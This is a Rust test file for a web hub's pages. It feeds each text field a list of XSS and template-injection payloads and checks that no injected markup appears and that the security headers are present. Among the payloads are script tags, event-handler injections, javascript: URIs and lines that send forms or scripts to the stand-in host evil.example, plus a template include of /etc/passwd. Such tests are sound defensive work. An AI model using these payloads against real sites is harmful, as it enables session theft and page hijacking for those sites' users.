//! T106: scripts in every text of every answer, on every page. A page with a payload in it has no tag, and no tag an attribute,
//! that pages do not have with harmless letters there; what is a payload is text.

use std::collections::BTreeSet;

use nave_hub::api::ResyncAnswer;

use super::filled::filled;
use super::*;

/// What is tried to get out of a text, an attribute, a comment or a script, and what would then run.
const OUT: [&str; 10] = ["", "\">", "'>", "</title>", "</script>", "</textarea>", "-->", "]]>", "\" x=\"", "` "];
const RUN: [&str; 21] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<form action=//evil.example><input name=form_token>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "onfocus=alert(1) autofocus=",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% include \"/etc/passwd\" %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b>",
    "\u{0}<\u{202e}script>\u{2028}alert(1)",
];
/// As long as a payload may be, and nothing.
const HARMLESS: &str = "harmless";

/// A hub in whose answers every text is the same.
struct Same(String);

impl Service for Same {
    fn call(&self, asked: Asked, _: ProgressSender) -> BoxFuture<'_, Result<Answer, ApiError>> {
        let text = self.0.as_str();
        macro_rules! answers {
            ($($request:pat => $answer:ident,)+) => {
                match asked.request { $($request => Ok(Answer::$answer(filled(text))),)+ _ => Err(ApiError::failed(text).help(text)) }
            };
        }
        Box::pin(async move {
            if let Request::RecordResync { .. } = asked.request {
                return Ok(Answer::Resync(resynced(text)));
            }
            answers! {
                Request::Status => Status,
                Request::AlertList { .. } => Alerts,
                Request::Governance => Governance,
                Request::GovernanceList { .. } => GovernanceList,
                Request::Records { .. } => Records,
                Request::RecordShow { at: None, .. } => Record,
                Request::RecordShow { .. } => Past,
                Request::RecordWhy { .. } => Why,
                Request::RecordHistory { .. } => History,
                Request::RecordCorrect { .. } => Correction,
                Request::ReviewList { .. } => Reviews,
                Request::ReviewShow { .. } => Review,
                Request::ReviewBulk { .. } => Bulk,
                Request::DlqList { .. } => DeadLetters,
                Request::Anomalies => Anomalies,
                Request::ConnectionList => Connections,
                Request::ConnectionAuthorize { .. } => SignIn,
                Request::Assessments { .. } => Assessments,
                Request::Authorizations { .. } => Authorizations,
                Request::PluginList => Plugins,
                Request::PluginGrants { .. } => Grants,
                Request::PluginUpgrade { .. } => Upgrade,
                Request::MergeList { .. } => Merges,
                Request::MergeShow { .. } => Merge,
                Request::MergeRecords { .. } => Merge,
                Request::Unmerge { .. } => Merge,
                Request::MappingSheet { .. } => Sheet,
                Request::CompareHistory { .. } => CompareHistory,
                Request::Compare { .. } => Compare,
                Request::Census { .. } => Census,
                Request::ScheduleList => Schedule,
                Request::Budget { .. } => Budget,
                Request::RunbookList => Runbooks,
                Request::RunbookShow { .. } => Runbook,
            }
        })
    }

    fn hook(&self, _: HookCall) -> BoxFuture<'_, HookAnswer> {
        Box::pin(async { HookAnswer::Odd(self.0.clone()) })
    }

    fn sign_in_start<'a>(&'a self, _: &'a str) -> BoxFuture<'a, Result<SignInStart, String>> {
        Box::pin(async { Err(self.0.clone()) })
    }

    fn sign_in_callback(&self, call: SignInCallback) -> BoxFuture<'_, Result<SignedIn, String>> {
        let signed_in = SignedIn { connection: self.0.clone(), scopes: vec![self.0.clone()] };
        Box::pin(async move { if call.code.is_some() { Ok(signed_in) } else { Err(self.0.clone()) } })
    }

    fn run(&self, _: watch::Receiver<bool>) -> BoxFuture<'_, ()> {
        Box::pin(async {})
    }

    fn tokens(&self) -> Result<Vec<TokenRow>, ApiError> {
        Fake::default().tokens()
    }

    fn refused(&self, _: &str, _: u64) {}
}

/// With a run in it, which [`filled`] cannot make.
fn resynced(text: &str) -> ResyncAnswer {
    let run = serde_json::json!({
        "flow": text, "direction": "out", "wanted": 1, "delivered": 1, "unchanged": 0, "parked": 0, "held": 0, "failed": 0,
        "status": "failed", "run": 1, "started_at": text, "message": text,
    });
    ResyncAnswer {
        record: text.to_owned(),
        title: text.to_owned(),
        planned: false,
        looked: filled(text),
        towards: filled(text),
        runs: vec![serde_json::from_value(run).unwrap()],
    }
}

/// Every page, by what is asked for; what is posted has a body.
const PAGES: [(&str, &str); 33] = [
    ("GET /", ""),
    ("GET /records", ""),
    ("GET /records?q=x&entity=y", ""),
    ("GET /records/contact/1", ""),
    ("GET /records/contact/1?at=2026-01-01", ""),
    ("POST /records/contact/1/resync", "what=plan"),
    ("POST /records/contact/1/correct", "field=email&reason=r"),
    ("GET /reviews", ""),
    ("GET /reviews/1", ""),
    ("GET /reviews/many", ""),
    ("GET /reviews/many?kind=match&choice=approve", ""),
    ("POST /reviews/many", "kind=match&choice=approve&reason=r"),
    ("POST /reviews/1", "choice=new&reason=r"),
    ("POST /reviews/release", "subject=a&what=let-in&reason=r"),
    ("GET /merges", ""),
    ("GET /merges/1", ""),
    ("POST /merges", "one=contact/1&other=contact/2&what=plan"),
    ("POST /merges/1/unmerge", "what=plan"),
    ("POST /merges/1/resume", ""),
    ("GET /connections", ""),
    ("GET /plugins", ""),
    ("GET /connections/crm", ""),
    ("POST /connections/crm/authorize", "slot=token&way=device"),
    ("POST /connections/crm/revoke", "what=endpoint+api"),
    ("GET /mappings", ""),
    ("GET /mappings/crm", ""),
    ("GET /census?pair=a/b/c", ""),
    ("GET /governance/duplicates", ""),
    ("GET /reconcile", ""),
    ("GET /reconcile/a/b/c", ""),
    ("GET /schedule", ""),
    ("GET /runbooks", ""),
    ("GET /runbooks/length", ""),
];

/// The tags of a page in their order, each with the names of its attributes, and where links, forms and sources lead.
fn structure(page: &str) -> (Vec<String>, BTreeSet<String>) {
    let (mut tags, mut leads) = (Vec::new(), BTreeSet::new());
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) {
            tags.push("a bare <".to_owned());
            continue;
        }
        let name_ends = rest.find(|c: char| c.is_ascii_whitespace() || c == '>').unwrap_or(rest.len());
        let mut tag = rest[..name_ends].to_ascii_lowercase();
        rest = &rest[name_ends..];
        loop {
            rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
            if rest.is_empty() || rest.starts_with('>') {
                break;
            }
            let ends = rest.find(|c: char| c.is_ascii_whitespace() || matches!(c, '=' | '>')).unwrap_or(rest.len());
            let name = rest[..ends].to_ascii_lowercase();
            rest = &rest[ends..];
            if let Some(value) = rest.strip_prefix('=') {
                let quote = value.chars().next().filter(|c| matches!(c, '"' | '\''));
                let (value, after) = match quote {
                    Some(quote) => value[1..].split_once(quote).unwrap_or((&value[1..], "")),
                    None => value.split_at(value.find(|c: char| c.is_ascii_whitespace() || c == '>').unwrap_or(value.len())),
                };
                if matches!(name.as_str(), "href" | "src" | "action" | "formaction") {
                    leads.insert(value.to_owned());
                }
                rest = after;
            }
            tag += &format!(" {name}");
        }
        tags.push(tag);
    }
    (tags, leads)
}

/// What a page is made of with this text everywhere, and the page.
async fn pages(text: &str) -> Vec<(String, Vec<String>)> {
    let (_stop, stopped) = watch::channel(false);
    let addr = SocketAddr::from(([127, 0, 0, 1], 6283));
    let service = Arc::new(Same(text.to_owned()));
    let router = crate::router(State::new(service, addr, &[], Vec::new(), stopped));
    let server = Server { fake: Arc::default(), router, _stop };
    let headers = [HOST, "origin: http://localhost:6283", FORM];
    let (_, set, _) = server.ask("POST /login", &headers, &format!("token={TOKEN}")).await;
    let id = set.split("nave_session=").nth(1).unwrap().split(';').next().unwrap();
    let cookie = format!("cookie: nave_session={id}");
    let (_, _, page) = server.ask("GET /reviews/1", &[HOST, &cookie], "").await;
    let form_token = page.split("name=\"form_token\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let mut found = Vec::new();
    let escaped =
        text.replace('&', "&#38;").replace('<', "&#60;").replace('>', "&#62;").replace('"', "&#34;").replace('\'', "&#39;");
    let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let named = [
        ("GET /nothing-here".to_owned(), ""),
        (format!("GET /connections/{encoded}"), ""),
        (format!("GET /plugins/{encoded}"), ""),
        (format!("GET /mappings/{encoded}"), ""),
        (format!("GET /runbooks/{encoded}"), ""),
        (format!("GET /records?q={encoded}&entity={encoded}"), ""),
        (format!("GET /reviews/many?kind={encoded}&choice={encoded}"), ""),
        (format!("GET /oauth/start/{encoded}"), ""),
        (format!("GET /oauth/callback?state=s&error={encoded}&error_description={encoded}"), ""),
        (format!("GET /oauth/callback?state=s&code={encoded}"), ""),
    ];
    let fixed = PAGES.iter().map(|(line, body)| ((*line).to_owned(), *body));
    for (number, (line, body)) in fixed.chain(named).enumerate() {
        let body = if body.is_empty() { format!("form_token={form_token}") } else { format!("form_token={form_token}&{body}") };
        let headers: &[&str] = &[HOST, "origin: http://localhost:6283", FORM, &cookie];
        let (status, answered, page) = server.ask(&line, headers, &body).await;
        assert!(page.contains("</html>") || status == StatusCode::SEE_OTHER, "{line}: {status} {page}");
        for header in ["default-src 'none'", "script-src 'self'", "frame-ancestors 'none'", "nosniff"] {
            assert!(answered.contains(header) && !answered.contains("unsafe-inline"), "{line} lacks {header}: {answered}");
        }
        let (tags, leads) = structure(&page);
        assert!(text == HARMLESS || !text.contains(['<', '"']) || !page.contains(text), "{line} holds it as it is");
        for lead in leads {
            let ours = (lead.starts_with('/') && !lead.starts_with("//") && !lead.starts_with("/\\")) || lead.starts_with('#');
            // Where a person agrees is the one address that is somebody else's: the hub takes none but of a web page.
            let agreed = line.ends_with("/authorize") && (lead == text || lead == escaped);
            assert!(ours || agreed || lead.starts_with("https://"), "{line} leads to {lead}");
        }
        found.push((format!("{number} {}", line.replace(&encoded, "…")), tags));
    }
    found
}

#[tokio::test]
async fn no_text_is_ever_markup() {
    // What a page is made of depends on what texts say, a little: on whether one is a path, a command, or a record.
    let mut ours: BTreeSet<String> = BTreeSet::new();
    for harmless in [HARMLESS, "crm/contacts: 1", "contact/12", "nave review show 3", "`nave status`", ""] {
        let pages = pages(harmless).await;
        let tags: usize = pages.iter().map(|(_, tags)| tags.len()).sum();
        assert!(pages.len() == PAGES.len() + 10 && tags > 2_000, "{tags} tags on {} pages", pages.len());
        ours.extend(pages.into_iter().flat_map(|(_, tags)| tags));
    }
    assert!(
        ours.contains("script src defer") && !ours.iter().any(|tag| tag.contains(" on") || tag.contains("style")),
        "{ours:?}"
    );
    let mut tried = 0;
    for out in OUT {
        for run in RUN {
            let payload = format!("{out}{run}");
            for (line, tags) in pages(&payload).await {
                let strange = tags.iter().find(|tag| !ours.contains(*tag));
                assert!(strange.is_none(), "{line} with {payload:?}: {strange:?}");
                assert!(tags.iter().filter(|tag| tag.starts_with("script")).count() <= 1, "{line} with {payload:?}: {tags:?}");
            }
            tried += 1;
        }
    }
    assert!(tried >= 200, "{tried}");
}
